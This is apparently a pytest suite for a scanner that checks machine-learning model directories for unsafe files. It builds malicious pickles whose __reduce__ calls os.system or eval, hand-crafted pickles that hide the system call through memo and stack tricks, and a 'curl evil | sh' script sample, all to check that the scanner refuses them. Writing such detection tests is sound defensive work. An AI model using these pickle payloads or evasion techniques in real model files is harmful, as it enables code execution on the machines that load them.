"""Tests for the model scanner: real malicious pickles, torch archives, safetensors, code, links."""

from __future__ import annotations

import collections
import hashlib
import json
import os
import pickle
import struct
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import load_file as st_load_file
from safetensors.numpy import save_file as st_save_file

from airflow_mlops.exceptions import UnsafeModelError
from airflow_mlops.security.scanning import FIX_HINTS, Finding, ScanReport, scan_model_dir

# --- payloads -----------------------------------------------------------------------------


class _SystemCall:
    """Unpickling this runs a shell command (the classic pickle RCE)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (self.command,))


class _Opaque:
    """A class of the test module: not on any built-in allowlist."""


class _EvalCall:
    """Unpickling this evaluates Python source."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (eval, ("__import__('os').getcwd()",))


def _kinds(report: ScanReport) -> set[str]:
    return {f.kind for f in report.findings}


def _details(report: ScanReport) -> str:
    return "\n".join(f.detail for f in report.findings)


def _safetensors_bytes(header: dict[str, object], data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def model_dir(tmp_path: Path) -> Path:
    """A clean MLflow-like model directory that passes the scan."""
    root = tmp_path / "model"
    root.mkdir()
    st_save_file({"w": np.arange(12, dtype=np.float32).reshape(3, 4)}, str(root / "model.safetensors"))
    (root / "MLmodel").write_text("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc\n")
    (root / "conda.yaml").write_text("dependencies:\n  - python=3.11\n")
    (root / "requirements.txt").write_text("certifi==2024.2.2\nnumpy==1.26.4\n")
    (root / "input_example.json").write_text('{"columns": ["a"], "data": [[1]]}')
    (root / "registered_model_meta").write_text("model_name: churn\n")
    return root


# --- clean models -------------------------------------------------------------------------


def test_clean_model_dir_passes(model_dir: Path) -> None:
    report = scan_model_dir(model_dir)

    assert report.ok, _details(report)
    assert report.files_scanned == 6
    assert report.root == str(model_dir)
    report.ensure_safe()  # does not raise


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_benign_ordered_dict_pickle_passes_every_protocol(tmp_path: Path, protocol: int) -> None:
    (tmp_path / "state.pkl").write_bytes(
        pickle.dumps(collections.OrderedDict([("a", 1), ("b", 2)]), protocol=protocol)
    )

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)
    assert report.files_scanned == 1


def test_real_torch_state_dict_zip_and_legacy_formats_pass(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))
    torch.save(net.state_dict(), tmp_path / "weights.pt")
    torch.save(net.state_dict(), tmp_path / "legacy.pth", _use_new_zipfile_serialization=False)
    assert zipfile.is_zipfile(tmp_path / "weights.pt")
    assert not zipfile.is_zipfile(tmp_path / "legacy.pth")

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)
    assert report.files_scanned == 2


def test_torch_full_module_pickle_passes_but_a_custom_module_needs_allowlisting(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    torch.save(torch.nn.Linear(2, 2), tmp_path / "module.pt")
    assert scan_model_dir(tmp_path).ok  # every torch.nn module class is on the built-in allowlist

    custom = tmp_path / "custom"
    custom.mkdir()
    torch.save(collections.Counter(w=torch.nn.Linear(2, 2)), custom / "module.pt")
    (custom / "extra.pkl").write_bytes(pickle.dumps(_Opaque(), protocol=4))
    refused = scan_model_dir(custom)
    allowed = scan_model_dir(custom, allowed_globals=[f"{__name__}._Opaque"])

    assert _kinds(refused) == {"unknown_global"}
    assert {f.symbol for f in refused.findings} == {f"{__name__}._Opaque"}
    assert allowed.ok, _details(allowed)


def test_numpy_arrays_pickled_and_saved_pass(tmp_path: Path) -> None:
    for protocol in (2, 4, 5):
        (tmp_path / f"arr{protocol}.pkl").write_bytes(pickle.dumps(np.arange(6.0), protocol=protocol))
    np.save(tmp_path / "arr.npy", np.arange(5))
    np.savez(tmp_path / "arrays.npz", a=np.arange(3), b=np.ones((2, 2)))

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)
    assert report.files_scanned == 5


# --- malicious pickles --------------------------------------------------------------------


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_os_system_pickle_is_refused_for_every_protocol(tmp_path: Path, protocol: int) -> None:
    marker = tmp_path / "pwned"
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_SystemCall(f"touch {marker}"), protocol=protocol))

    report = scan_model_dir(tmp_path)

    assert not marker.exists(), "the scanner must never unpickle"
    assert "dangerous_global" in _kinds(report)
    assert f"{os.system.__module__}.system" in _details(report)  # posix.system on Linux
    assert report.findings[0].path == "model.pkl"


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_builtins_eval_is_refused_including_py2_module_name(tmp_path: Path, protocol: int) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_EvalCall(), protocol=protocol))

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert "builtins.eval" in _details(report)


def test_dangerous_globals_cannot_be_allowlisted(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_SystemCall("true"), protocol=4))
    module = os.system.__module__

    report = scan_model_dir(tmp_path, allowed_globals=[f"{module}.system", f"{module}.*"])

    assert _kinds(report) == {"dangerous_global"}
    assert "always refused" in _details(report)


def test_pickle_content_is_found_whatever_the_extension(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_bytes(pickle.dumps(_SystemCall("true"), protocol=2))
    (tmp_path / "weights.safetensors.bak").write_bytes(pickle.dumps(_SystemCall("true"), protocol=5))

    report = scan_model_dir(tmp_path)

    assert {f.path for f in report.findings if f.kind == "dangerous_global"} == {
        "config.json",
        "weights.safetensors.bak",
    }


def test_protocol_0_pickle_disguised_as_text_is_found(tmp_path: Path) -> None:
    payload = pickle.dumps(_SystemCall("true"), protocol=0)
    payload.decode("ascii")  # it really is plain text
    (tmp_path / "notes.txt").write_bytes(payload)

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert report.findings[0].path == "notes.txt"


def test_unknown_global_is_refused_unless_allowlisted(tmp_path: Path) -> None:
    import statistics

    (tmp_path / "dist.pkl").write_bytes(pickle.dumps(statistics.NormalDist(0, 1), protocol=4))

    refused = scan_model_dir(tmp_path)
    exact = scan_model_dir(tmp_path, allowed_globals=["statistics.NormalDist"])
    single_string = scan_model_dir(tmp_path, allowed_globals="statistics.NormalDist")
    wildcard = scan_model_dir(tmp_path, allowed_globals=["statistics.*"])
    other = scan_model_dir(tmp_path, allowed_globals=["statistics.mean", "statisticsx.*"])

    assert _kinds(refused) == {"unknown_global"}
    assert "statistics.NormalDist" in _details(refused)
    assert exact.ok and wildcard.ok and single_string.ok
    assert not other.ok


def test_concatenated_pickles_are_all_walked(tmp_path: Path) -> None:
    benign = pickle.dumps({"a": 1}, protocol=4)
    evil = pickle.dumps(_SystemCall("true"), protocol=4)
    (tmp_path / "model.pkl").write_bytes(benign + evil)

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert "pickle #2" in _details(report)


def test_garbage_after_a_pickle_is_refused(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps([1, 2], protocol=4) + b"\xff\xfe not a pickle")

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_pickle"}


def test_truncated_pickle_is_refused(tmp_path: Path) -> None:
    (tmp_path / "model.pt").write_bytes(pickle.dumps(list(range(100)), protocol=2)[:-5])

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_pickle"}


def test_forged_huge_length_does_not_allocate(tmp_path: Path) -> None:
    # BINUNICODE8 claiming 2**62 bytes: the reader must cap the read at what the file holds
    (tmp_path / "model.pkl").write_bytes(b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"abc")

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_pickle"}


# STACK_GLOBAL operands built by hand: each of these is a valid pickle (checked with a harmless
# callable) that the real unpickler resolves; the scanner must resolve it too or refuse it.
_SB = b"\x8c"  # SHORT_BINUNICODE


def _s(text: str) -> bytes:
    return _SB + bytes([len(text)]) + text.encode()


def _call_with_arg(module: str, name: str, *, via: str) -> bytes:
    if via == "memo":  # operands stored in the memo, popped, and fetched back with BINGET
        ops = _s(module) + b"q\x00" + b"0" + _s(name) + b"q\x01" + b"0" + b"h\x00h\x01"
    elif via == "memoize":
        ops = _s(module) + b"\x94" + _s(name) + b"\x94"
    elif via == "pop":  # operands hidden under a pushed-then-popped value
        ops = _s(module) + _s(name) + b")0"
    elif via == "call":  # the module name is computed at load time: str(module)
        ops = _s("builtins") + _s("str") + b"\x93" + _s(module) + b"\x85R" + _s(name)
    else:
        raise ValueError(via)
    return b"\x80\x04" + ops + b"\x93" + _s("abc") + b"\x85R."


@pytest.mark.parametrize("via", ["memo", "memoize", "pop", "call"])
def test_handmade_stack_global_pickles_are_valid(via: str) -> None:
    assert pickle.loads(_call_with_arg("builtins", "len", via=via)) == 3


@pytest.mark.parametrize("via", ["memo", "memoize", "pop"])
def test_stack_global_operands_resolved_through_the_memo(tmp_path: Path, via: str) -> None:
    (tmp_path / "a.pkl").write_bytes(_call_with_arg("builtins", "len", via=via))
    (tmp_path / "b.pkl").write_bytes(_call_with_arg(os.system.__module__, "system", via=via))

    report = scan_model_dir(tmp_path)

    by_path = {f.path: f for f in report.findings}
    assert by_path["a.pkl"].kind == "unknown_global"
    assert "builtins.len" in by_path["a.pkl"].detail
    assert by_path["b.pkl"].kind == "dangerous_global"


def test_unresolvable_stack_global_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(_call_with_arg(os.system.__module__, "system", via="call"))

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"unresolved_global"}
    assert report.findings[0].offset is not None


def test_extension_registry_import_is_a_finding(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(b"\x80\x02\x82\x01)R.")  # EXT1 code 1, (), REDUCE

    report = scan_model_dir(tmp_path)

    assert "extension_global" in _kinds(report)


# --- archives -----------------------------------------------------------------------------


def _torch_style_zip(path: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/version", b"3\n")
        zf.writestr("archive/data/0", b"\x80\x02" + bytes(30))  # raw storage that merely starts like a pickle
        for name, content in (extra or {}).items():
            zf.writestr(name, content)


def test_malicious_data_pkl_inside_torch_zip_is_refused(tmp_path: Path) -> None:
    _torch_style_zip(tmp_path / "model.pt", pickle.dumps(_SystemCall("true"), protocol=2))

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"dangerous_global"}
    assert "archive/data.pkl" in _details(report)
    assert report.findings[0].path == "model.pt"


def test_benign_torch_style_zip_passes(tmp_path: Path) -> None:
    _torch_style_zip(tmp_path / "model.bin", pickle.dumps(collections.OrderedDict(w=1), protocol=2))

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)


@pytest.mark.parametrize(
    ("member", "content", "kind"),
    [
        ("archive/code/__torch__/model.py", b"import os\n", "code"),
        ("../escape.txt", b"x", "invalid_archive"),
        ("archive/inner.zip", b"PK\x03\x04" + bytes(30), "invalid_archive"),
        ("archive/extra.pkl", pickle.dumps(_EvalCall(), protocol=2), "dangerous_global"),
    ],
)
def test_unsafe_archive_members_are_refused(tmp_path: Path, member: str, content: bytes, kind: str) -> None:
    _torch_style_zip(tmp_path / "model.pt", pickle.dumps({"w": 1}, protocol=2), {member: content})

    report = scan_model_dir(tmp_path)

    assert kind in _kinds(report)
    assert repr(member) in _details(report)


def test_npz_object_arrays_are_walked_not_refused(tmp_path: Path) -> None:
    np.savez(tmp_path / "plain.npz", ok=np.arange(3), objs=np.array([{"a": 1}, "x", None], dtype=object))
    np.savez(tmp_path / "evil.npz", ok=np.arange(3), bad=np.array([_SystemCall("true")], dtype=object))

    report = scan_model_dir(tmp_path)

    assert {(f.path, f.kind) for f in report.findings} == {("evil.npz", "dangerous_global")}
    assert "'bad.npy'" in _details(report)
    assert report.findings[0].symbol == f"{os.system.__module__}.system"


def test_npy_object_array_of_plain_values_passes_and_a_payload_is_reported(tmp_path: Path) -> None:
    np.save(tmp_path / "objs.npy", np.array([{"a": 1}, [1, 2], "s"], dtype=object), allow_pickle=True)
    assert scan_model_dir(tmp_path).ok
    np.save(tmp_path / "objs.npy", np.array([1, _EvalCall()], dtype=object), allow_pickle=True)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind, f.symbol) for f in report.findings] == [
        ("objs.npy", "dangerous_global", "builtins.eval")
    ]
    data = (tmp_path / "objs.npy").read_bytes()
    assert data[report.findings[0].offset :].startswith(b"cbuiltins\neval\n")  # protocol 3: GLOBAL


# --- safetensors --------------------------------------------------------------------------


def test_real_safetensors_pass_even_renamed(tmp_path: Path) -> None:
    tensors = {"w": np.ones((2, 3), dtype=np.float16), "b": np.arange(4, dtype=np.int64)}
    st_save_file(tensors, str(tmp_path / "model.safetensors"), metadata={"format": "np"})
    (tmp_path / "pytorch_model.bin").write_bytes((tmp_path / "model.safetensors").read_bytes())

    report = scan_model_dir(tmp_path)

    assert report.ok, _details(report)


def test_safetensors_from_torch_pass(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    from safetensors.torch import save_file

    save_file(torch.nn.Linear(8, 2).state_dict(), str(tmp_path / "model.safetensors"))

    assert scan_model_dir(tmp_path).ok


_F32_2 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("length_past_eof", struct.pack("<Q", 10_000) + b'{"a": 1}', "runs past the end"),
        (
            "offsets_past_end",
            _safetensors_bytes({"t": {**_F32_2, "data_offsets": [0, 64]}}, bytes(8)),
            "outside",
        ),
        ("bad_dtype", _safetensors_bytes({"t": {**_F32_2, "dtype": "PYOBJ"}}, bytes(8)), "unknown dtype"),
        (
            "overlap",
            _safetensors_bytes(
                {"t": _F32_2, "u": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, bytes(8)
            ),
            "overlap",
        ),
        ("size_mismatch", _safetensors_bytes({"t": {**_F32_2, "shape": [3]}}, bytes(8)), "needs 12 bytes"),
        ("not_json", struct.pack("<Q", 5) + b"{oops" + bytes(8), "not valid UTF-8 JSON"),
        ("not_object", _safetensors_bytes([1, 2], b""), "JSON object"),  # type: ignore[arg-type]
        (
            "bad_metadata",
            _safetensors_bytes({"__metadata__": {"k": 1}, "t": _F32_2}, bytes(8)),
            "__metadata__",
        ),
        ("trailing_bytes", _safetensors_bytes({"t": _F32_2}, bytes(16)), "trailing bytes"),
        ("shape_not_ints", _safetensors_bytes({"t": {**_F32_2, "shape": ["2"]}}, bytes(8)), "shape"),
    ],
)
def test_corrupt_safetensors_are_refused(tmp_path: Path, name: str, content: bytes, expected: str) -> None:
    path = tmp_path / f"{name}.safetensors"
    path.write_bytes(content)

    report = scan_model_dir(tmp_path)

    assert _kinds(report) == {"invalid_safetensors"}
    assert expected in _details(report)
    with pytest.raises(Exception):  # noqa: B017 - the reference library agrees the file is broken
        st_load_file(str(path))


def test_safetensors_data_region_is_not_read(tmp_path: Path) -> None:
    # a 4 GiB sparse tensor: validating it must cost the header, not the data
    nbytes = 1 << 32
    header = {"huge": {"dtype": "U8", "shape": [nbytes], "data_offsets": [0, nbytes]}}
    path = tmp_path / "huge.safetensors"
    with path.open("wb") as fh:
        fh.write(_safetensors_bytes(header, b""))
        fh.truncate(fh.tell() + nbytes)

    start = time.process_time()  # CPU seconds: reading 4 GiB would cost them, a busy machine not
    report = scan_model_dir(tmp_path)
    elapsed = time.process_time() - start

    assert report.ok, _details(report)
    assert elapsed < 2.0


# --- code, links, other files -------------------------------------------------------------


def test_python_file_is_refused_without_a_trusted_hash(tmp_path: Path) -> None:
    (tmp_path / "code").mkdir()
    wrapper = tmp_path / "code" / "wrapper.py"
    wrapper.write_text("class Model:\n    pass\n")

    untrusted = scan_model_dir(tmp_path)
    trusted = scan_model_dir(tmp_path, trusted_code={"code/wrapper.py": _sha256(wrapper).upper()})
    stale = scan_model_dir(tmp_path, trusted_code={"code/wrapper.py": "0" * 64})
    other_path = scan_model_dir(tmp_path, trusted_code={"wrapper.py": _sha256(wrapper)})

    assert [(f.path, f.kind) for f in untrusted.findings] == [("code/wrapper.py", "code")]
    assert trusted.ok
    assert _kinds(stale) == {"code_hash_mismatch"}
    assert _sha256(wrapper) in _details(stale)
    assert _kinds(other_path) == {"code"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("libcustom.so", b"\x7fELF\x02\x01\x01" + bytes(40)),
        ("weights.dat", b"\x7fELF\x02\x01\x01" + bytes(40)),  # ELF by content, innocent name
        ("setup", b"#!/bin/sh\ncurl evil | sh\n"),
        ("plugin.dll", b"MZ\x90\x00" + bytes(40)),
        ("install.sh", b"echo hi\n"),
        ("cached.pyc", b"\xa7\x0d\x0d\x0a" + bytes(12)),
    ],
)
def test_code_files_are_refused(tmp_path: Path, name: str, content: bytes) -> None:
    (tmp_path / name).write_bytes(content)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [(name, "code")]


def test_symlinks_are_refused(tmp_path: Path, model_dir: Path) -> None:
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    (model_dir / "weights.txt").symlink_to(outside)
    (model_dir / "linked_dir").symlink_to(tmp_path)

    report = scan_model_dir(model_dir)

    assert {(f.path, f.kind) for f in report.findings} == {
        ("weights.txt", "symlink"),
        ("linked_dir", "symlink"),
    }
    assert str(outside) in _details(report)


def test_empty_or_missing_directory_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    (empty / "sub").mkdir(parents=True)

    for report in (scan_model_dir(empty), scan_model_dir(tmp_path / "missing")):
        assert [(f.path, f.kind) for f in report.findings] == [(".", "no_model_files")]
        assert report.files_scanned == 0


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("input_example.json", b'{"broken": ', "invalid_data_file"),
        ("conda.yaml", b"key: [unclosed\n", "invalid_data_file"),
        ("MLmodel", b"flavors: {python_function: \n", "invalid_data_file"),
        ("blob.dat", bytes(range(256)) * 4, "unrecognised_file"),
        ("model.onnx", b"\x08\x07\x12\x04onnx\x00\xff\xfe" + bytes(20), "unrecognised_file"),
        ("raw.bin", b"\x00\x01\x02\x03 raw floats", "invalid_pickle"),
    ],
)
def test_unparseable_or_unrecognised_files_are_refused(
    tmp_path: Path, name: str, content: bytes, kind: str
) -> None:
    (tmp_path / name).write_bytes(content)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [(name, kind)]


def test_a_file_the_scanner_cannot_check_is_a_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "data.json").write_text("{}")

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("parser crashed")

    monkeypatch.setattr("airflow_mlops.security.scanning.scanner.json.load", boom)

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [("data.json", "scan_error")]
    assert "parser crashed" in _details(report)


def test_a_single_file_can_be_scanned(tmp_path: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps(_SystemCall("true"), protocol=4))

    report = scan_model_dir(path)

    assert report.files_scanned == 1
    assert [(f.path, f.kind) for f in report.findings] == [("model.pkl", "dangerous_global")]


# --- the report ---------------------------------------------------------------------------


def test_ensure_safe_lists_every_finding_with_its_fix(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_SystemCall("true"), protocol=4))
    (tmp_path / "run.py").write_text("print('hi')\n")
    (tmp_path / "bad.safetensors").write_bytes(struct.pack("<Q", 999))
    report = scan_model_dir(tmp_path)

    with pytest.raises(UnsafeModelError) as excinfo:
        report.ensure_safe()

    message = str(excinfo.value)
    assert "3 finding(s)" in message
    for finding in report.findings:
        assert finding.path in message
        assert finding.detail in message
        assert FIX_HINTS[finding.kind] in message
    assert "safetensors" in message


def test_to_dict_is_json_serialisable(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(_EvalCall(), protocol=2))
    report = scan_model_dir(tmp_path)

    data = json.loads(json.dumps(report.to_dict()))

    assert data["ok"] is False
    assert data["files_scanned"] == 1
    assert data["findings"][0]["path"] == "model.pkl"
    assert data["findings"][0]["kind"] == "dangerous_global"
    assert data["findings"][0]["fix"] == FIX_HINTS["dangerous_global"]


def test_report_and_finding_are_frozen() -> None:
    finding = Finding(path="a.pkl", kind="unknown_global", detail="x")
    report = ScanReport(root="/m", files_scanned=1, findings=(finding,))

    with pytest.raises(AttributeError):
        report.files_scanned = 2  # type: ignore[misc]
    with pytest.raises(AttributeError):
        finding.kind = "ok"  # type: ignore[misc]
    assert not report.ok
    assert ScanReport(root="/m", files_scanned=1).ok


def test_a_pickle_of_more_opcodes_than_the_scanner_walks_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Scan time is bounded like its memory: a flood of cheap opcodes (``N0`` pairs that no fast
    path skips) is refused once the stream passes the opcode limit, across concatenated pickles."""
    from airflow_mlops.security.scanning import walker

    monkeypatch.setattr(walker, "MAX_OPCODES", 1_000)
    flood = tmp_path / "flood.pkl"
    flood.write_bytes(b"\x80\x04" + b"N0" * 600 + b"N.")
    report = scan_model_dir(flood)
    assert not report.ok and "opcodes" in report.findings[0].detail
    # the count is per stream: two pickles of 600 opcode pairs each are past it together
    split = tmp_path / "split.pkl"
    split.write_bytes((b"\x80\x04" + b"N0" * 300 + b"N.") * 2)
    assert not scan_model_dir(split).ok
    small = tmp_path / "small.pkl"
    small.write_bytes(pickle.dumps({"weights": [1.5, 2.5], "name": "m"}, protocol=4))
    assert scan_model_dir(small).ok
